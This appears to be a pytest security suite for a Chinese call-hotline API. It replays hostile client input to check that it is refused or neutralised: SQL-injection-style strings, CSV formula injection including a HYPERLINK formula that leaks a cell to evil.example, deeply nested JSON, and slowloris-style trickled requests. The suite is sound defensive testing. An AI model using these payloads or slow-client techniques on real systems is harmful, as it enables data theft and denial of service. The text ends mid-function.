"""What a hostile or careless client sends, replayed against the real app (issue 12, items 1, 2, 5, 6, 10, 12):
every field and parameter bounded in size, type and range; spreadsheet formulas escaped on export; extreme
dates and deeply nested metadata refused with a 422; no phone number in the logs; security headers on every
response; slow clients cut off by a real uvicorn server. The app runs on SQLite with a queue that runs
nothing (as in tests/api/test_api_fuzz.py): no model loads."""

import csv
import io
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import numpy as np
import pytest
import uvicorn
from conftest import tone, write_audio
from fastapi.testclient import TestClient
from service_builders import auth, make_settings, new_key, push, quiet_services
from sqlalchemy import text

from api.docs import docs_csp
from api.headers import API_CSP, PAGES_CSP
from api.main import create_app
from api.schemas import CallPushForm, TicketFieldsIn
from api.server import TimedH11Protocol, log_config, server_config
from models import TICKET_FIELDS, DepartmentSuggestion, MetadataError, Ticket
from pipeline.logmask import MaskNumbers
from pipeline.meta import METADATA_MAX_CHARS, CallMetaIn, load_meta
from pipeline.service.corrections import CORRECTION_COLUMNS, FORMULA_STARTS, csv_cell, to_csv
from pipeline.service.repository import NewCall

ROOT = Path(__file__).resolve().parents[2]
CALL = "sec-1"
CALLER = "13912345678"
HEADER_TIMEOUT_S, BODY_IDLE_S, BODY_TOTAL_S, SEND_IDLE_S = 1.0, 1.0, 3.0, 2.0
MARGIN_S = 1.5
EXTREME_DATES = ["0001-01-01T00:00:00", "9999-12-31T23:59:59-12:00"]


AGENT = "A2048"


@pytest.fixture(scope="module")
def service(tmp_path_factory):
    """The app on SQLite with keys for every role and one call done, with a transcript and a ticket."""
    tmp_path = tmp_path_factory.mktemp("security")
    server = {
        "header_timeout_s": HEADER_TIMEOUT_S,
        "body_idle_timeout_s": BODY_IDLE_S,
        "body_timeout_s": BODY_TOTAL_S,
        "send_idle_timeout_s": SEND_IDLE_S,
    }
    settings = make_settings(tmp_path, f"sqlite:///{tmp_path / 'security.db'}", max_upload_mb=5, server=server)
    services = quiet_services(settings)
    keys = {role: new_key(services, role) for role in ("telephony", "qa", "admin")}
    keys["operator"] = new_key(services, "operator", agent_id=AGENT)  # the call's agent: it is in their scope
    wav = write_audio(tmp_path / "call.wav", np.stack([tone(1.0, 8000), tone(1.0, 8000, 660.0)]), 8000)
    app = create_app(services=services)
    with TestClient(app, raise_server_exceptions=False) as client:
        assert push(client, keys["telephony"], wav, CALL, caller_number=CALLER, agent_id=AGENT).status_code == 202
        _finish(services.repository, CALL)
        yield {"client": client, "services": services, "keys": keys, "wav": wav, "tmp": tmp_path}
    services.engine.dispose()


def _finish(repository, call_id: str) -> None:
    """The call as the worker leaves it: transcript saved, ticket pre-filled, done."""
    turns = [{"role": "agent", "text": "您好，12345热线"}, {"role": "caller", "text": "楼下施工太吵"}]
    ticket = Ticket.empty()
    ticket.fields["summary"].value = "市民来电反映：楼下施工太吵。"
    ticket.department_suggestions = [DepartmentSuggestion("城市管理行政执法局", 0.6)]
    assert repository.claim(call_id, "transcribe", 60)
    assert repository.save_transcript(call_id, {"call_id": call_id, "turns": turns}, {}, 2.0)
    assert repository.claim(call_id, "extract", 60)
    repository.finish(call_id, ticket, {})


def _patch(service, body):
    return service["client"].patch(f"/v1/calls/{CALL}/ticket", headers=auth(service["keys"]["operator"]), json=body)


def _ticket_fields(service) -> dict:
    response = service["client"].get(f"/v1/calls/{CALL}/ticket", headers=auth(service["keys"]["operator"]))
    return response.json()["ticket"]["fields"]


# --- 1. every field the API takes has a type and a bound -------------------------------------------------


def test_every_ticket_field_has_a_schema_in_form_order():
    assert tuple(TicketFieldsIn.model_fields) == TICKET_FIELDS


def test_the_ticket_schema_shows_in_openapi(service):
    schema = service["client"].get("/openapi.json").json()["components"]["schemas"]["TicketFieldsIn"]
    assert schema["additionalProperties"] is False
    fields = schema["properties"]

    def variant(name: str, key: str):
        return next(option[key] for option in fields[name]["anyOf"] if key in option)

    assert variant("address_detail", "maxLength") == 500
    assert variant("summary", "maxLength") == 2000
    assert variant("caller_surname", "maxLength") == 20
    assert set(variant("emotion", "enum")) == {"angry", "anxious", "distressed", "calm"}
    assert "反映" in variant("request_type", "enum")
    assert variant("phone", "pattern")


def _bounds(property_schema: dict) -> dict:
    """A field's pattern and length bounds, from its schema or from its non-null variant."""
    options = property_schema.get("anyOf", [property_schema])
    return {key: value for option in options for key, value in option.items() if key in ("pattern", "maxLength")}


def test_the_push_form_in_openapi_is_what_the_push_reads():
    form = CallPushForm.model_json_schema()["properties"]
    metadata = CallMetaIn.model_json_schema()["properties"]
    # every field of the metadata document may come as a form field (the push reads CallMetaIn's fields), and
    # the form has no other field than the recording, the whole document and the priority
    assert set(form) == {"recording", "metadata", "priority", *metadata}
    for name in ("call_id", "caller_number", "agent_id"):
        assert _bounds(form[name]) == _bounds(metadata[name]) != {}, name
    assert form["recording"]["format"] == "binary"
    assert _bounds(form["metadata"]) == {"maxLength": METADATA_MAX_CHARS}


def test_the_push_body_shows_in_openapi(service):
    push = service["client"].get("/openapi.json").json()["paths"]["/v1/calls"]["post"]["requestBody"]
    assert push["required"] is True
    schema = push["content"]["multipart/form-data"]["schema"]
    assert set(schema["properties"]) == set(CallPushForm.model_fields)  # the model's schema (nulls left out)
    assert (
        schema["properties"]["call_id"]["pattern"]
        == CallPushForm.model_json_schema()["properties"]["call_id"]["pattern"]
    )
    assert {"recording", "call_id"} <= set(schema["required"])
    assert set(schema["properties"]["priority"]["enum"]) == {"live", "backlog"}


@pytest.mark.parametrize(
    ("fields", "where"),
    [
        ({"address_detail": "楼" * 501}, "address_detail"),
        ({"summary": "吵" * 2001}, "summary"),
        ({"caller_name": "王" * 51}, "caller_name"),
        ({"emotion": 12345}, "emotion"),
        ({"emotion": "furious"}, "emotion"),
        ({"urgency": ["urgent"]}, "urgency"),
        ({"request_type": "闲聊"}, "request_type"),
        ({"phone": "call me maybe"}, "phone"),
        ({"phone": 13800007731}, "phone"),
        ({"id_number": "12345"}, "id_number"),
        ({"district": {"name": "龙华区"}}, "district"),
        ({"no_such_field": "x"}, "no_such_field"),
        ({"caller_name": "\u202e王\u202d"}, "caller_name"),  # shown backwards
        ({"summary": "噪音\x00扰民"}, "summary"),
    ],
)
def test_a_ticket_field_too_long_or_of_the_wrong_type_is_refused(service, fields, where):
    before = _ticket_fields(service)
    response = _patch(service, {"fields": fields})
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "invalid_request"
    assert where in response.json()["error"]["message"]
    assert _ticket_fields(service) == before, "nothing stored"


@pytest.mark.parametrize("accept", ["yes", 1, "true"])
def test_only_true_accepts_a_ticket(service, accept):
    response = _patch(service, {"accept": accept})
    assert response.status_code == 422, response.text
    assert "accept" in response.json()["error"]["message"]


def test_ticket_fields_within_their_bounds_are_stored_and_null_clears(service):
    fields = {
        "address_detail": "楼" * 500,
        "emotion": "angry",
        "urgency": "high",
        "request_type": "投诉",
        "phone": "0898-66123456转8001",
        "id_number": "460100********1234",
    }
    assert _patch(service, {"fields": fields}).status_code == 200
    stored = _ticket_fields(service)
    assert {name: stored[name]["value"] for name in fields} == fields
    assert _patch(service, {"fields": {"emotion": None}}).status_code == 200
    after = _ticket_fields(service)
    assert after["emotion"]["value"] is None
    assert after["urgency"]["value"] == "high", "a field left out is unchanged"


def test_json_bodies_have_a_small_limit_and_only_the_push_the_upload_limit(service):
    client, keys = service["client"], service["keys"]
    big = {"fields": {}, "padding": "x" * 1_100_000}
    response = _patch(service, big)
    assert response.status_code == 413 and response.json()["error"]["code"] == "too_large"
    assert response.headers["connection"] == "close"
    login = client.post("/v1/session", json={"key": "k" * 1_100_000})
    assert login.status_code == 413

    # without a Content-Length (chunked), the body is counted as it arrives: still a 413, not FastAPI's 400
    async def chunks():
        yield b'{"fields": {"summary": "'
        for _ in range(12):
            yield b"x" * 100_000
        yield b'"}}'

    response = _asgi_request(client.app, "PATCH", f"/v1/calls/{CALL}/ticket", keys["operator"], chunks())
    assert response.status_code == 413, response.text

    # a 1.6 MB recording is over the JSON limit but within the push's
    long_call = write_audio(service["tmp"] / "long.wav", np.stack([tone(50.0, 8000), tone(50.0, 8000, 660.0)]), 8000)
    assert long_call.stat().st_size > 1_500_000
    assert push(client, keys["telephony"], long_call, "sec-long").status_code == 202


@pytest.mark.parametrize(
    "audit",
    [
        {"score": 90, "rubric": {f"item{index}": 1 for index in range(51)}},
        {"score": 90, "rubric": {"x" * 65: 1}},
        {"score": 90, "rubric": {"greeting": 101}},
        {"score": 90, "rubric": {"greeting": "NaN"}},
        {"score": 90, "checks": {f"check{index}": True for index in range(51)}},
        {"score": 90, "checks": {"": True}},
        {"score": 90, "marks": [{"turn": 0, "kind": "other", "note": "n" * 2001}]},
        {"score": True},  # not a score of 1
        {"score": 90, "comment": "好\u202e评"},
        {"score": "90"},
        {"score": 90, "checks": {"greeting": "yes"}},  # not a tick
        {"score": 90, "marks": [{"turn": "0", "kind": "other"}]},
    ],
)
def test_audit_bodies_are_bounded(service, audit):
    response = service["client"].post(f"/v1/calls/{CALL}/audit", headers=auth(service["keys"]["qa"]), json=audit)
    assert response.status_code == 422, response.text


def test_a_bounded_audit_is_stored(service):
    audit = {"score": 88, "rubric": {"greeting": 20, "courtesy": 25}, "checks": {"greeting": True}}
    response = service["client"].post(f"/v1/calls/{CALL}/audit", headers=auth(service["keys"]["qa"]), json=audit)
    assert response.status_code == 201, response.text


@pytest.mark.parametrize(
    ("method", "path", "kwargs"),
    [
        ("post", "/v1/keys", {"json": {"name": "op", "role": "operator", "agent_id": "A 1024; drop"}}),
        ("post", "/v1/keys", {"json": {"name": "n" * 65, "role": "operator"}}),
        ("post", "/v1/keys", {"json": {"name": "op", "role": "root"}}),
        ("get", "/v1/calls", {"params": {"q": "q" * 201}}),
        ("get", "/v1/calls", {"params": {"agent_id": "A1024' OR 1=1"}}),
        ("get", "/v1/calls", {"params": {"limit": 100_000}}),
        ("get", "/v1/calls", {"params": {"offset": -1}}),
        ("get", "/v1/corrections", {"params": {"format": "xlsx"}}),
        ("get", f"/v1/calls/{CALL}/transcript", {"params": {"format": "html"}}),
        ("patch", f"/v1/calls/{CALL}/ticket", {"json": {"department": "局" * 129}}),
    ],
)
def test_keys_search_and_export_parameters_are_bounded(service, method, path, kwargs):
    response = service["client"].request(method, path, headers=auth(service["keys"]["admin"]), **kwargs)
    assert response.status_code == 422, response.text


# --- 2. CSV formula injection ---------------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_is_escaped(start):
    assert csv_cell(f'{start}HYPERLINK("http://evil")') == f'\'{start}HYPERLINK("http://evil")'


@pytest.mark.parametrize("value", ["楼下施工", "1", 3, None, "a=b", " =1"])
def test_other_cells_are_unchanged(value):
    assert csv_cell(value) == ("" if value is None else str(value))


def test_the_corrections_export_escapes_operator_text(service):
    client, keys = service["client"], service["keys"]
    summary = '市民来电反映：=HYPERLINK("http://evil.example/?"&A1,"点击")'
    patch = {"fields": {"summary": summary, "district": "@SUM(1+1)"}, "department": "+城管", "accept": True}
    assert _patch(service, patch).status_code == 200
    exported = client.get("/v1/corrections", headers=auth(keys["admin"]))
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    row = next(row for row in rows if row["call_id"] == CALL)
    assert row["text"] == "'" + summary.split("：", 1)[1]
    assert row["district"] == "'@SUM(1+1)"
    assert row["department"] == "'+城管"
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    # the command line writes the same rows through the same function
    lines = "".join(to_csv([{**dict.fromkeys(CORRECTION_COLUMNS, ""), "text": "-1+2", "department": "＝1"}]))
    assert lines.splitlines()[1].count("'") == 2


# --- 5. extreme dates -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("moment", EXTREME_DATES)
def test_an_extreme_start_time_on_a_push_is_refused(service, moment):
    client, keys = service["client"], service["keys"]
    response = push(client, keys["telephony"], service["wav"], "sec-date", caller_number=CALLER, started_at=moment)
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "bad_metadata"
    assert "1970-01-01" in response.json()["error"]["message"]
    metadata = json.dumps({"call_id": "sec-date", "started_at": moment})
    response = client.post(
        "/v1/calls",
        headers=auth(keys["telephony"]),
        data={"metadata": metadata},
        files={"recording": ("call.wav", service["wav"].read_bytes(), "audio/wav")},
    )
    assert response.status_code == 422, response.text
    assert client.get("/v1/calls/sec-date", headers=auth(keys["telephony"])).status_code == 404


@pytest.mark.parametrize("path", ["/v1/calls", "/v1/audits/summary", "/v1/corrections", "/v1/corrections?format=jsonl"])
@pytest.mark.parametrize("name", ["since", "until"])
@pytest.mark.parametrize("moment", EXTREME_DATES)
def test_an_extreme_date_filter_is_refused(service, path, name, moment):
    response = service["client"].get(path, headers=auth(service["keys"]["admin"]), params={name: moment})
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "invalid_request"
    assert name in response.json()["error"]["message"] and "1970-01-01" in response.json()["error"]["message"]


@pytest.mark.parametrize("path", ["/v1/calls", "/v1/audits/summary", "/v1/corrections"])
def test_dates_at_the_ends_of_the_range_are_taken(service, path):
    params = {"since": "1970-01-01T00:00:00Z", "until": "2099-12-31T23:59:59+08:00"}
    assert service["client"].get(path, headers=auth(service["keys"]["admin"]), params=params).status_code == 200


def test_the_export_answers_a_database_failure_before_its_body(service, monkeypatch):
    """The export used to read its rows only once the 200 was sent: a failure then dropped the connection in the
    middle of the body. Now the database has answered before the response starts."""

    def failing(since=None, until=None):
        raise RuntimeError("database went away")
        yield  # a generator, as the repository's is

    monkeypatch.setattr(service["services"].repository, "accepted_calls", failing)
    response = service["client"].get("/v1/corrections", headers=auth(service["keys"]["admin"]))
    assert response.status_code == 500
    assert response.json()["error"]["code"] == "internal_error"


def test_the_command_line_export_refuses_an_extreme_date(service, tmp_path):
    command = ["export", "corrections", "--out", str(tmp_path / "c.csv"), "--since", "0001-01-01T00:00:00"]
    result = subprocess.run(
        [str(Path(sys.executable).with_name("hotline")), *command],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={**os.environ, "HOTLINE_DATABASE_URL": service["services"].settings.resolved_database_url},
    )
    assert result.returncode == 2 and "1970-01-01" in result.stderr and "Traceback" not in result.stderr


# --- 5. phone numbers in the logs -------------------------------------------------------------------------------


FAILING_TRIGGER = "CREATE TRIGGER fail_calls BEFORE INSERT ON calls BEGIN INSERT INTO gone VALUES (1); END"


def test_a_failing_push_logs_no_caller_number(service, caplog):
    """A database error used to print the statement's parameters with the traceback: the caller's number."""
    client, keys, services = service["client"], service["keys"], service["services"]
    with services.engine.begin() as connection:  # inserting a call fails: the table the trigger writes is gone
        connection.execute(text("CREATE TABLE gone (x)"))
        connection.execute(text(FAILING_TRIGGER))
        connection.execute(text("DROP TABLE gone"))
    try:
        with caplog.at_level(logging.DEBUG):
            response = push(client, keys["telephony"], service["wav"], "sec-log", caller_number=CALLER)
            extreme = {"caller_number": CALLER, "started_at": EXTREME_DATES[0]}
            bad_date = push(client, keys["telephony"], service["wav"], "sec-log", **extreme)
    finally:
        with services.engine.begin() as connection:
            connection.execute(text("DROP TRIGGER fail_calls"))
    assert response.status_code == 500 and bad_date.status_code == 422
    assert any(record.exc_info for record in caplog.records), "the error was logged with its traceback"
    assert "parameters hidden" in caplog.text
    assert CALLER not in caplog.text


def _record(msg, args=(), exc_info=None) -> logging.LogRecord:
    return logging.LogRecord("test", logging.ERROR, __file__, 1, msg, args, exc_info)


def test_the_log_filter_masks_message_arguments_and_tracebacks():
    try:
        raise ValueError(f"caller {CALLER} with ID 11010519491231002X")
    except ValueError:
        exc_info = sys.exc_info()
    records = [
        _record(f"push from {CALLER}"),
        _record("push from %s", (CALLER,)),
        _record("push from %(number)s", ({"number": f"+86{CALLER}"},)),
        _record("push from %d", (int(CALLER),)),
        _record("failed", exc_info=exc_info),
    ]
    records[-1].stack_info = f"Stack: number={CALLER}"
    handler = logging.StreamHandler(stream := io.StringIO())
    handler.addFilter(MaskNumbers())
    for record in records:
        handler.handle(record)
    written = stream.getvalue()
    assert CALLER not in written and "11010519491231002X" not in written
    assert written.count("139****5678") == 6
    assert "110105********002X" in written


def test_serve_and_the_command_line_install_the_filter(tmp_path):
    """`hotline serve`'s logging configuration (uvicorn's loggers, the app's) and the CLI's basicConfig."""
    config = log_config()
    assert all(handler["filters"] == ["mask_numbers"] for handler in config["handlers"].values())
    assert config["root"]["handlers"] == ["app"]
    script = f"""
import logging, logging.config, sys
from api.server import log_config
logging.config.dictConfig(log_config())
logging.getLogger("uvicorn.error").warning("client %s", "{CALLER}")
access = ("1.2.3.4", "GET", "/v1/calls?q={CALLER}", "1.1", 200)
logging.getLogger("uvicorn.access").info('%s - "%s %s HTTP/%s" %d', *access)
try:
    raise RuntimeError("number {CALLER}")
except RuntimeError:
    logging.getLogger("api.errors").exception("unhandled error")
from pipeline.cli import main
logging.root.handlers.clear()
main(verbose=False)
logging.getLogger("pipeline.service.jobs").warning("call from {CALLER}")
"""
    result = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    written = result.stdout + result.stderr
    assert CALLER not in written
    assert written.count("139****5678") == 4, written


def test_the_worker_masks_numbers_in_its_logs(tmp_path):
    """`hotline worker` with a broker host that holds a number: Celery's connection errors name it, masked."""
    env = {
        **os.environ,
        "HOTLINE_DATA_DIR": str(tmp_path),
        "HOTLINE_DATABASE_URL": f"sqlite:///{tmp_path / 'worker.db'}",
        "HOTLINE_REDIS_URL": f"redis://{CALLER}.invalid:6379/15",  # never resolves: nothing is connected to
    }
    hotline = str(Path(sys.executable).with_name("hotline"))
    worker = subprocess.Popen([hotline, "worker"], env=env, cwd=ROOT, stderr=subprocess.PIPE, text=True)
    lines: list[str] = []
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and not any("Cannot connect" in line for line in lines):
            line = worker.stderr.readline()
            if not line:
                break
            lines.append(line)
    finally:
        worker.terminate()
        try:
            worker.wait(10)
        except subprocess.TimeoutExpired:
            worker.kill()
            worker.wait()
        worker.stderr.close()
    written = "".join(lines)
    assert "Cannot connect" in written, written[-2000:]
    assert CALLER not in written and "139****5678" in written


# --- 6. deeply nested metadata ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("metadata", '{"call_id": "sec-deep", "x": ' + "[" * 20_000 + "]" * 20_000 + "}", "nested deeper"),
        ("metadata", '{"call_id": "sec-deep", "x": ' + '{"a": ' * 9 + "1" + "}" * 9 + "}", "nested deeper"),
        ("channel_map", '{"0": ' + "[" * 20_000 + "]" * 20_000 + "}", "nested deeper"),
        ("metadata", json.dumps({"call_id": "sec-deep", "x": "y" * 70_000}), "longer than"),
        ("channel_map", json.dumps({str(index): "agent" for index in range(9)}), "at most 8"),
        ("channel_map", json.dumps({"123": "agent"}), "channel_map"),
        ("metadata", '{"call_id": "sec-deep", "x": "' + '\\"' * 20_000, "not valid JSON"),  # escaped quotes, no end
        ("metadata", '{"call_id": "sec-deep", "x": ' + "9" * 5_000 + "}", "number too long"),  # int digit limit
        ("channel_map", '{"0": ' + "9" * 5_000 + "}", "number too long"),
    ],
)
def test_deep_or_large_metadata_is_refused(service, field, value, message):
    client, keys = service["client"], service["keys"]
    data = {field: value} if field == "metadata" else {"call_id": "sec-deep", field: value}
    # refused by the rule named in the message (depth, digit limit) before any parse that could take long; the
    # time it takes is not asserted here (no timed assertions in tests)
    response = client.post(
        "/v1/calls",
        headers=auth(keys["telephony"]),
        data=data,
        files={"recording": ("call.wav", service["wav"].read_bytes(), "audio/wav")},
    )
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "bad_metadata"
    assert message in response.json()["error"]["message"]


def test_metadata_within_bounds_is_taken(service):
    metadata = {"call_id": "sec-meta", "caller_number": CALLER, "channel_map": {"0": "agent", "1": "caller"}}
    metadata["extra"] = {"pbx": {"trunk": {"id": [1, 2, 3]}}}
    response = service["client"].post(
        "/v1/calls",
        headers=auth(service["keys"]["telephony"]),
        data={"metadata": json.dumps(metadata)},
        files={"recording": ("call.wav", service["wav"].read_bytes(), "audio/wav")},
    )
    assert response.status_code == 202, response.text


def test_the_command_line_refuses_deep_metadata(tmp_path):
    meta = tmp_path / "call.meta.json"
    meta.write_text('{"call_id": "x", "y": ' + "[" * 20_000 + "]" * 20_000 + "}", encoding="utf-8")
    with pytest.raises(MetadataError, match="nested deeper"):
        load_meta(meta, tmp_path / "call.wav")


# --- 10. security headers -------------------------------------------------------------------------------------


def _assert_common_headers(response) -> None:
    assert response.headers["x-content-type-options"] == "nosniff", response.url
    assert response.headers["x-frame-options"] == "DENY", response.url
    assert response.headers["referrer-policy"] == "no-referrer", response.url


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("get", "/healthz", 200),
        ("get", "/v1/calls", 401),
        ("get", "/v1/no-such-thing", 404),
        ("get", f"/v1/calls/{CALL}/audio", 200),
        ("get", "/v1/calls?limit=0", 422),
    ],
)
def test_api_responses_carry_the_security_headers(service, method, path, status):
    headers = auth(service["keys"]["admin"]) if status != 401 else {}
    response = service["client"].request(method, path, headers=headers)
    assert response.status_code == status
    _assert_common_headers(response)
    assert response.headers["content-security-policy"] == API_CSP


def test_pages_carry_their_content_security_policy(service):
    for path in ("/ui/", "/ui/operator.html", "/ui/api.js"):
        response = service["client"].get(path)
        assert response.status_code == 200
        _assert_common_headers(response)
        assert response.headers["content-security-policy"] == PAGES_CSP
    docs = service["client"].get("/docs")
    _assert_common_headers(docs)
    # Swagger UI from this app's own files (not a CDN), its one inline script allowed by hash, nothing else
    assert "cdn." not in docs.text and "/docs/assets/swagger-ui-bundle.js" in docs.text
    policy = docs.headers["content-security-policy"]
    assert policy == docs_csp(docs.text) and "script-src 'self' 'sha256-" in policy and "http" not in policy
    assert service["client"].get("/docs/assets/swagger-ui-bundle.js").status_code == 200
    assert service["client"].get("/redoc").status_code == 404


def test_refusals_and_server_errors_carry_the_security_headers(service):
    client = service["client"]
    too_large = client.patch(
        f"/v1/calls/{CALL}/ticket",
        headers={**auth(service["keys"]["operator"]), "Content-Type": "application/json"},
        content=b"{" + b" " * 1_100_000 + b"}",
    )
    assert too_large.status_code == 413
    _assert_common_headers(too_large)

    app = create_app(services=service["services"])

    @app.get("/v1/boom")
    def boom():
        raise RuntimeError("boom")

    with TestClient(app, raise_server_exceptions=False) as other:
        response = other.get("/v1/boom")
    assert response.status_code == 500
    _assert_common_headers(response)


# --- 12. slow clients -----------------------------------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture(scope="module")
def server(service):
    """A real uvicorn, configured as `hotline serve` configures it, serving the app on a free port."""
    port = _free_port()
    config = server_config(
        service["services"].settings, "127.0.0.1", port, app=create_app(services=service["services"]), log_config=None
    )
    assert config.http is TimedH11Protocol and config.header_timeout_s == HEADER_TIMEOUT_S
    runner = uvicorn.Server(config)
    thread = threading.Thread(target=runner.run, name="uvicorn-security-tests", daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not runner.started:
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    yield ("127.0.0.1", port)
    runner.should_exit = True
    thread.join(10)


def test_forwarded_headers_name_the_client_only_behind_a_trusted_proxy(tmp_path):
    """uvicorn believes X-Forwarded-For from loopback unless told otherwise: a client on the host could then
    choose the address the login throttle counts. The address the app sees, with no proxy trusted and with
    127.0.0.1 named as the proxy."""

    async def echo_client(scope, receive, send):
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/plain")]})
        await send({"type": "http.response.body", "body": scope["client"][0].encode()})

    seen = {}
    for trusted in ("", "127.0.0.1"):
        settings = make_settings(tmp_path, f"sqlite:///{tmp_path / 'proxy.db'}", server={"trusted_proxies": trusted})
        port = _free_port()
        runner = uvicorn.Server(server_config(settings, "127.0.0.1", port, app=echo_client, log_config=None))
        thread = threading.Thread(target=runner.run, daemon=True)
        thread.start()
        deadline = time.monotonic() + 30
        while not runner.started:
            assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
            time.sleep(0.05)
        response = httpx.get(f"http://127.0.0.1:{port}/", headers={"X-Forwarded-For": "203.0.113.9"})
        seen[trusted] = response.text
        runner.should_exit = True
        thread.join(10)
    assert seen == {"": "127.0.0.1", "127.0.0.1": "203.0.113.9"}


def test_a_client_that_reads_nothing_of_a_long_recording_is_cut_off(service, server):
    """30 MB of audio asked for and never read: the server's send buffer fills, and after the send timeout the
    server closes the connection instead of holding it (and the open recording) for as long as the client likes."""
    services = service["services"]
    big = io.BytesIO(b"RIFF" + os.urandom(30_000_000))
    stored = services.store.put(big)
    services.repository.register(
        NewCall("sec-slow-reader", None, AGENT, None, {}, "live", "audio/wav"), stored, pushed_by=None
    )
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # a small window: the server's buffer fills
    sock.connect(server)
    key = service["keys"]["operator"]
    sock.sendall(
        f"GET /v1/calls/sec-slow-reader/audio HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n\r\n".encode()
    )
    time.sleep(SEND_IDLE_S + 3)  # reading nothing
    received, started = 0, time.monotonic()
    sock.settimeout(5)
    while chunk := sock.recv(1 << 20):  # drains what was buffered, then the end: the server closed
        received += len(chunk)
        assert time.monotonic() - started < 30, "the connection is still open"
    sock.close()
    assert 0 < received < 30_000_000, received


def _until_closed(sock: socket.socket, limit_s: float, feed=None) -> tuple[float, bytes]:
    """Read until the server closes the connection (calling `feed(sock)` between reads, as a slow client
    would send): the seconds it took and what the server sent. Fails if it is still open after `limit_s`."""
    started = time.monotonic()
    received = b""
    sock.settimeout(0.1)
    while time.monotonic() - started < limit_s:
        try:
            chunk = sock.recv(65536)
        except TimeoutError:
            chunk = None
        except ConnectionResetError:
            return time.monotonic() - started, received
        if chunk == b"":
            return time.monotonic() - started, received
        received += chunk or b""
        if feed is not None:
            try:
                feed(sock)
            except (BrokenPipeError, ConnectionResetError):
                return time.monotonic() - started, received
    raise AssertionError(f"the connection is still open after {limit_s} s (got {received[:200]!r})")


def _trickle(data: bytes, every_s: float):
    """A feed that sends one byte of `data` every `every_s` seconds (then more of the same forever)."""
    state = {"next": 0.0, "at": 0}

    def feed(sock: socket.socket) -> None:
        if time.monotonic() >= state["next"]:
            sock.send(data[state["at"] % len(data) : state["at"] % len(data) + 1])
            state["at"] += 1
            state["next"] = time.monotonic() + every_s

    return feed


def test_a_connection_that_sends_nothing_is_closed(server):
    with socket.create_connection(server) as sock:
        elapsed, answer = _until_closed(sock, HEADER_TIMEOUT_S + MARGIN_S)
    assert elapsed >= HEADER_TIMEOUT_S * 0.9
    assert answer.startswith(b"HTTP/1.1 408")


def test_headers_sent_a_byte_at_a_time_are_cut_off(server):
    head = b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 1000 + b"\r\n\r\n"
    with socket.create_connection(server) as sock:
        _, answer = _until_closed(sock, HEADER_TIMEOUT_S + MARGIN_S, _trickle(head, 0.05))
    assert answer.startswith(b"HTTP/1.1 408"), "the trickle never finished its headers"


def _patch_head(service, length: int) -> bytes:
    return (
        f"PATCH /v1/calls/{CALL}/ticket HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {service['keys']['operator']}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
    ).encode()


def test_a_body_that_stalls_is_cut_off(service, server):
    with socket.create_connection(server) as sock:
        sock.sendall(_patch_head(service, 1000) + b'{"fields": {')
        _, answer = _until_closed(sock, BODY_IDLE_S + MARGIN_S)
    assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
    assert b"connection: close" in answer.lower() and b"nosniff" in answer


def test_a_body_that_trickles_is_cut_off_at_the_whole_body_limit(service, server):
    with socket.create_connection(server) as sock:
        sock.sendall(_patch_head(service, 100_000))
        elapsed, answer = _until_closed(sock, BODY_TOTAL_S + MARGIN_S, _trickle(b" ", BODY_IDLE_S / 4))
    assert elapsed >= BODY_TOTAL_S * 0.8
    assert answer.startswith(b"HTTP/1.1 408"), answer[:200]


def test_a_body_nobody_reads_is_not_drained_for_ever(server):
    """Refused before its upload is read (no key: 401), a client goes on sending the body slowly."""
    head = b"POST /v1/calls HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
    head += b"Content-Length: 4000000\r\n\r\n--b\r\n"  # within the upload limit
    with socket.create_connection(server) as sock:
        sock.sendall(head)
        _, answer = _until_closed(sock, HEADER_TIMEOUT_S + MARGIN_S, _trickle(b"x", 0.05))
    assert answer.startswith(b"HTTP/1.1 401"), answer[:200]


def test_a_prompt_client_keeps_its_connection_alive(service, server):
    """Idle between two requests longer than the head timeout: that wait is keep-alive's (5 s), not the head's."""
    body = b'{"fields": {"urgency": "normal"}}'
    with socket.create_connection(server) as sock:
        sock.settimeout(5)
        for request in (b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", _patch_head(service, len(body)) + body):
            sock.sendall(request)
            assert _response(sock).startswith(b"HTTP/1.1 200")
            time.sleep(HEADER_TIMEOUT_S * 1.5)
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        assert _response(sock).startswith(b"HTTP/1.1 200")


def _response(sock: socket.socket) -> bytes:
    """One whole response (headers and a Content-Length body) read from a keep-alive connection."""
    data = b""
    while b"\r\n\r\n" not in data:
        data += sock.recv(65536) or pytest.fail(f"closed after {data!r}")
    head, _, body = data.partition(b"\r\n\r\n")
    headers = dict(line.lower().split(b": ", 1) for line in head.split(b"\r\n")[1:])
    length = int(headers[b"content-length"])
